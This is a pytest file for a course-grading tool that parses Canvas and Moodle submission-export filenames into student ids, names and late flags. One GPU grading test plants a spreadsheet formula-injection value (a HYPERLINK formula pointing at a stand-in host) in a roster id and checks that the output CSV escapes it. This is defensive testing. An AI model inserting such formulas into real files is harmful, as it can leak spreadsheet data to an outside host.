"""The ids `coursepack grade` reads from each LMS's export, with fixtures named exactly as the LMS's
own code names them:

- Canvas, lib/content_zipper.rb: get_filename joins [sortable name (filtered to word characters,
  lowercased; none with anonymous grading), "LATE" when late, user id or "anon_<anonymous id>"]
  with _, and add_upload_submission appends _<attachment id>_<file name>; online text is
  <that>_text.html, a URL <that>_link.html. Older exports wrote "late" in lower case.
- Moodle, mod/assign/classes/downloader.php (4.1 and later): folders
  clean_filename(prefix . '_' . subtype . '_' . type) with prefix "<Full Name>_<id>" (a team's
  "<group name>_<group id>", "Default group" alone), or with '_' . <file name> (one folder for
  all); the older locallib.php download_submissions wrote the folder with a trailing _.
Unicode names included (Canvas keeps [[:word:]] characters; Moodle's clean_filename keeps letters)."""

from __future__ import annotations

import io
import zipfile

import pytest

from generator.grade.collect import collect
from generator.grade.lesson import load_lesson
from tests.conftest import REPO

ANSWER = "tl.maximum(xv, 0.0, propagate_nan=tl.PropagateNan.ALL)"


@pytest.fixture(scope="module")
def lesson():
    return load_lesson(REPO / "content", "lesson03_relu")


def kernel(lesson, fill: str) -> str:
    return "\n".join(lesson.languages["en"].data["template"]).replace("______", fill, 1) + "\n"


def export(tmp_path, lesson, files: dict[str, str]) -> dict:
    """The files as one .zip, as the LMS downloads it; what collect reads from it, by id."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    (tmp_path / "export.zip").write_bytes(data.getvalue())
    return {s.student: s for s in collect(tmp_path / "export.zip", lesson)}


def test_canvas_anonymous_grading(lesson, tmp_path):
    found = export(
        tmp_path,
        lesson,
        {
            "anon_Gc8Xh_394803490_relu.py": kernel(lesson, ANSWER),
            "LATE_anon_q2Zt7_394803491_relu.py": kernel(lesson, "xv"),
            "anon_Gc8Xh_text.html": "<p>my notes</p>",
        },
    )
    assert set(found) == {"Gc8Xh", "q2Zt7"}
    assert (found["Gc8Xh"].layout, found["Gc8Xh"].late, found["Gc8Xh"].name) == (
        "canvas",
        False,
        "",
    )
    assert found["Gc8Xh"].kind == "kernel" and "anon_Gc8Xh_text.html" in found["Gc8Xh"].files
    assert found["q2Zt7"].late and found["q2Zt7"].kind == "kernel"


def test_canvas_named_today_and_before(lesson, tmp_path):
    found = export(
        tmp_path,
        lesson,
        {
            "jonesamy_LATE_334245_1001_relu.py": kernel(lesson, ANSWER),  # today: LATE in capitals
            "smithbo_late_334246_1002_relu.py": kernel(lesson, "xv"),  # older exports: late
            "张伟_334247_1003_relu-1.py": kernel(lesson, "xv"),  # a resubmission, a Chinese name
            "ñúñezjosé_334248_1004_relu.py": kernel(lesson, ANSWER),  # lowercased, accents kept
            "o_brienpat_334249_1005_relu.py": kernel(lesson, ANSWER),  # _ kept by the word filter
            "jonesamy_LATE_334245_text.html": "<p>online text</p>",
        },
    )
    assert set(found) == {"334245", "334246", "334247", "334248", "334249"}
    assert (found["334245"].name, found["334245"].late, found["334245"].kind) == (
        "jonesamy",
        True,
        "kernel",
    )
    assert (found["334246"].name, found["334246"].late) == ("smithbo", True)
    assert (found["334247"].name, found["334247"].late, found["334247"].kind) == (
        "张伟",
        False,
        "kernel",
    )
    assert found["334248"].name == "ñúñezjosé" and found["334249"].name == "o_brienpat"
    assert len(found["334245"].files) == 2


def test_moodle_41_folders_without_the_trailing_underscore(lesson, tmp_path):
    found = export(
        tmp_path,
        lesson,
        {
            "José Ñúñez_1084_assignsubmission_file/relu.py": kernel(lesson, ANSWER),
            "José Ñúñez_1084_assignsubmission_onlinetext/onlinetext.html": "<p>notes</p>",
            "张伟_1085_assignsubmission_file/lesson03/relu.py": kernel(lesson, "xv"),
            "Amy Jones_1086_assignsubmission_onlinetext/onlinetext.html": "<p>only text</p>",
        },
    )
    assert set(found) == {
        "1084",
        "1085",
        "1086",
    }  # the online-text folders are no student of their own
    assert (found["1084"].name, found["1084"].layout, found["1084"].kind) == (
        "José Ñúñez",
        "moodle",
        "kernel",
    )
    assert len(found["1084"].files) == 2
    assert (found["1085"].name, found["1085"].source) == (
        "张伟",
        "张伟_1085_assignsubmission_file/lesson03/relu.py",
    )
    assert found["1086"].problem[0] == "no_code"  # handed in text only: a row that says so


def test_moodle_3x_folders_one_folder_for_all_and_blind_marking(lesson, tmp_path):
    found = export(
        tmp_path,
        lesson,
        {
            "Wang Fang_123456_assignsubmission_file_/relu.py": kernel(lesson, ANSWER),
            "Wang Fang_123456_assignsubmission_onlinetext_/onlinetext.html": "<p>hi</p>",
            "Alex Doe_123457_assignsubmission_file_relu.py": kernel(lesson, "xv"),
            "Alex Doe_123457_assignsubmission_onlinetext_onlinetext.html": "<p>hi</p>",
            "Participant_7654321_assignsubmission_file/relu.py": kernel(lesson, ANSWER),
        },
    )
    assert set(found) == {"123456", "123457", "7654321"}
    assert (found["123457"].name, found["123457"].kind, found["123457"].source) == (
        "Alex Doe",
        "kernel",
        "Alex Doe_123457_assignsubmission_file_relu.py",
    )
    assert found["7654321"].name == "Participant" and found["123456"].kind == "kernel"


def test_moodle_team_submissions(lesson, tmp_path):
    found = export(
        tmp_path,
        lesson,
        {
            "Team Ψ_42_assignsubmission_file/relu.py": kernel(lesson, ANSWER),
            "Team Ψ_42_assignsubmission_onlinetext/onlinetext.html": "<p>we</p>",
            "Default group_assignsubmission_file/relu.py": kernel(lesson, "xv"),
        },
    )
    assert set(found) == {"42", "Default group"}
    assert (found["42"].name, found["42"].layout) == ("Team Ψ", "moodle")
    assert found["Default group"].kind == "kernel"


@pytest.mark.cuda
def test_an_lms_export_graded_on_the_gpu(tmp_path):
    """The layouts above in one class export, graded with --runner cuda (in the sandbox where it
    can run): each id read as its LMS wrote it, the GPU named in every row, and a roster id that
    is a formula written as text."""
    import csv
    from generator.checker.shared.sandbox import sandbox_problem
    from generator.grade.run import GradeOptions, grade
    from tests.conftest import small_lesson_copy

    content = small_lesson_copy(tmp_path, ["seed", "tail_257", "special_f32"])
    lesson = load_lesson(content, "lesson03_relu")
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, fill in (
            ("anon_Gc8Xh_394803490_relu.py", ANSWER),
            ("jonesamy_late_334245_1001_relu.py", "xv"),
            ("José Ñúñez_1084_assignsubmission_file/relu.py", ANSWER),
            ("José Ñúñez_1084_assignsubmission_onlinetext/onlinetext.html", None),
        ):
            archive.writestr(name, kernel(lesson, fill) if fill else "<p>notes</p>")
    (tmp_path / "export.zip").write_bytes(data.getvalue())
    (tmp_path / "roster.csv").write_text(
        'id,name,locale,aliases\n"=HYPERLINK(""http://x/?""&A1,""open"")",Eve,en,Gc8Xh\n',
        encoding="utf-8",
    )
    options = GradeOptions(
        tmp_path / "export.zip",
        "lesson03_relu",
        content=content,
        out=tmp_path / "out",
        build=tmp_path / "build",
        roster=tmp_path / "roster.csv",
        runner="cuda",
        jobs=2,
        sandbox="on" if sandbox_problem() is None else "off",
    )
    outcome = grade(options, progress=print)
    rows = {r.student: r for r in outcome.rows}
    assert set(rows) == {'=HYPERLINK("http://x/?"&A1,"open")', "334245", "1084"}
    assert "late" in rows["334245"].flags and rows["1084"].automatic == 3
    table = list(
        csv.DictReader((tmp_path / "out" / "grades.csv").open(encoding="utf-8", newline=""))
    )
    assert [r["student_id"] for r in table[1:]] == [
        "1084",
        "334245",
        '\'=HYPERLINK("http://x/?"&A1,"open")',
    ]
    assert all(r["device"] and "CPU" not in r["device"] for r in table[1:]), table
